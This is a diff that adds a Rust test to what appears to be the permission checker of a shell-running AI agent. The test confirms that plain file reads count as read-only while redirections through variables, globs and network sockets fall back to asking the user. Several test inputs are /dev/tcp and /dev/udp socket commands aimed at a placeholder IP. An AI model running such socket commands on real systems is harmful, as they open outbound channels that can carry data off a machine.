@@ -277,3 +277,19 @@ fn a_program_that_nobody_knows_may_read_its_operands() {
         assert_eq!(Call::shell(command).decide(&deny).behavior, expected, "{command}");
     }
 }
+
+#[test]
+fn what_a_command_reads_is_known_or_it_does_not_only_read() {
+    let plain = context(Mode::Default, rules(&[], &[], &[]));
+    for (command, expected) in [
+        ("wc -l < notes", "allow read_only"),
+        ("cat < $x", "ask default"),
+        ("cat < \"$x\"", "ask default"),
+        ("cat < *.txt", "ask default"),
+        ("cat < /dev/tcp/192.0.2.1/80", "ask default"),
+        ("ls > /dev/udp/192.0.2.1/80", "ask default"),
+        ("exec 3<> /dev/tcp/192.0.2.1/80", "ask default"),
+    ] {
+        assert_eq!(verdict(&Call::shell(command).decide(&plain)), expected, "{command}");
+    }
+}
